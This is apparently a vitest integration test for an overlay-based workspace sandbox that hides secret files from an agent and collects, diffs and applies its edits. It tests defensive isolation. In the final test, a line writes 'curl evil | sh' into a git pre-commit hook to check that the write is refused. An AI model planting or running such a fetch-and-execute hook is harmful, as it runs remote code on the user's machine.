import {
  chmodSync,
  linkSync,
  mkdirSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
  existsSync,
  readFileSync,
} from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_EXCLUDES, DEFAULT_PROTECTED } from '../../../src/policy/defaults.js';
import { applyChangeSet } from '../../../src/workspace/apply.js';
import { collectChangeSet } from '../../../src/workspace/changeset.js';
import { renderDiff } from '../../../src/workspace/diff.js';
import { loadChangeSet } from '../../../src/workspace/manifest.js';
import {
  mountOverlay,
  prepareOverlay,
  teardownOverlay,
  unmountOverlay,
  type OverlayDirs,
} from '../../../src/workspace/overlay.js';
import { planScope, type ScopePlan } from '../../../src/workspace/scope.js';
import { makeSandbox, snapshot, writeTree, type Sandbox } from './helpers.js';

const patterns = {
  include: ['**'],
  exclude: [...DEFAULT_EXCLUDES],
  protected: [...DEFAULT_PROTECTED],
};
const limits = { maxFiles: 10_000, maxBytes: 64 * 1024 * 1024 };

describe('workspace through a real overlay mount', () => {
  let sb: Sandbox;
  let dirs: OverlayDirs | undefined;
  let plan: ScopePlan;
  let startedAtMs: number;

  beforeEach(async () => {
    sb = makeSandbox();
    writeTree(sb.project, {
      'a.txt': 'one\ntwo\nthree\n',
      'src/x.ts': 'export const x = 1;\n',
      'bin/run.sh': '#!/bin/sh\necho hi\n',
      '.env': 'SECRET=1\n',
      'keys/id_rsa': 'PRIVATE\n',
      '.ssh/config': 'Host *\n',
      '.git/hooks/pre-commit': '#!/bin/sh\n',
      '.git/config': '[core]\n',
      'old/one.txt': '1\n',
      'old/deep/two.txt': '2\n',
      'img.bin': '\u0000\u0001binary',
      link: { link: 'a.txt' },
    });
    linkSync(`${sb.project}/.env`, `${sb.project}/notes.txt`);
    chmodSync(`${sb.project}/bin/run.sh`, 0o644);
    plan = await planScope(sb.project, patterns);
    dirs = await prepareOverlay({ baseDir: `${sb.base}/cell`, plan, sizeBytes: 64 * 1024 * 1024 });
    await mountOverlay({ lowerDir: sb.project, dirs });
    startedAtMs = Date.now() - 1;
  });

  afterEach(async () => {
    if (dirs) await teardownOverlay(dirs).catch(() => undefined);
    await sb.cleanup();
  });

  it('hides excluded files and hardlinks to them through a whiteout layer, upper stays empty', () => {
    expect(plan.hidden).toEqual(expect.arrayContaining(['.env', '.ssh', 'keys/id_rsa']));
    expect(plan.hardlinkHidden).toEqual(['notes.txt']);
    expect(plan.protected).toEqual(['.git/config', '.git/hooks']);
    const m = dirs!.mergedDir;
    for (const p of ['.env', '.ssh', 'keys/id_rsa', 'notes.txt'])
      expect(existsSync(`${m}/${p}`)).toBe(false);
    expect(readdirSync(`${m}/keys`)).toEqual([]);
    expect(readFileSync(`${m}/a.txt`, 'utf8')).toBe('one\ntwo\nthree\n');
    expect(readdirSync(dirs!.upperDir)).toEqual([]);
  });

  it('collects edits, renders a diff and applies them so the project equals the merged view', async () => {
    const m = dirs!.mergedDir;
    writeFileSync(`${m}/a.txt`, 'one\nTWO\nthree\n');
    writeFileSync(`${m}/new.txt`, 'fresh\n');
    rmSync(`${m}/old`, { recursive: true });
    chmodSync(`${m}/bin/run.sh`, 0o755);
    symlinkSync('src/x.ts', `${m}/l2`);
    rmSync(`${m}/link`);
    mkdirSync(`${m}/newdir/sub`, { recursive: true });
    writeFileSync(`${m}/newdir/sub/f`, 'f\n');
    writeFileSync(`${m}/img.bin`, Buffer.from([0, 1, 2, 3, 4]));
    const merged = snapshot(m);
    await unmountOverlay(m);

    const out = `${sb.base}/changes/t1`;
    mkdirSync(`${sb.base}/changes`);
    const summary = await collectChangeSet({
      upperDir: dirs!.upperDir,
      lowerDir: sb.project,
      projectDir: sb.project,
      outDir: out,
      taskId: 't1',
      startedAtMs,
      limits,
      scope: plan,
    });
    expect(summary.status).toBe('ok');
    expect(summary.counts).toMatchObject({ add: 5, modify: 2, mode: 1, delete: 5, refused: 0 });
    const diff = renderDiff(out, sb.project);
    expect(diff).toContain('-two\n+TWO\n');
    expect(diff).toContain('+++ b/new.txt');
    expect(diff).toContain('old mode 644\nnew mode 755');
    expect(diff).toContain('symlink l2 -> src/x.ts');
    expect(diff).toContain('Binary file img.bin changed (8 bytes → 5 bytes)');
    expect(diff).toContain('deleted directory old/deep');

    const r = applyChangeSet(out, sb.project);
    expect(r.applied).toBe(loadChangeSet(out).manifest.entries.length);
    const hidden = (p: string) =>
      ['.env', '.ssh', 'keys/id_rsa', 'notes.txt'].includes(p) || p.startsWith('.ssh/');
    expect(snapshot(sb.project, hidden)).toEqual(merged);
    expect(readFileSync(`${sb.project}/.env`, 'utf8')).toBe('SECRET=1\n');
    expect(snapshot(sb.sentinel)).toEqual({ keep: expect.stringMatching(/^file/) });
  });

  it('refuses a conflict and applies with force', async () => {
    const m = dirs!.mergedDir;
    writeFileSync(`${m}/a.txt`, 'agent\n');
    await unmountOverlay(m);
    const out = `${sb.base}/t2`;
    await collectChangeSet({
      upperDir: dirs!.upperDir,
      lowerDir: sb.project,
      projectDir: sb.project,
      outDir: out,
      taskId: 't2',
      startedAtMs,
      limits,
      scope: plan,
    });
    writeFileSync(`${sb.project}/a.txt`, 'user edit\n');
    const before = snapshot(sb.project);
    expect(() => applyChangeSet(out, sb.project)).toThrow(
      /three-way merge left conflicts in 1 file\(s\): a\.txt/,
    );
    expect(snapshot(sb.project)).toEqual(before);
    const r = applyChangeSet(out, sb.project, { force: true });
    expect(r.forced).toEqual(['a.txt']);
    expect(readFileSync(`${sb.project}/a.txt`, 'utf8')).toBe('agent\n');
  });

  it('cannot write through protected read-only paths in the collected set', async () => {
    const m = dirs!.mergedDir;
    writeFileSync(`${m}/.git/hooks/pre-commit`, 'curl evil | sh\n');
    writeFileSync(`${m}/.env`, 'planted\n');
    await unmountOverlay(m);
    const out = `${sb.base}/t3`;
    const s = await collectChangeSet({
      upperDir: dirs!.upperDir,
      lowerDir: sb.project,
      projectDir: sb.project,
      outDir: out,
      taskId: 't3',
      startedAtMs,
      limits,
      scope: plan,
    });
    expect(s.counts.refused).toBe(2);
    const before = snapshot(sb.project);
    expect(() => applyChangeSet(out, sb.project)).toThrow(/never applied/);
    expect(snapshot(sb.project)).toEqual(before);
  });
});
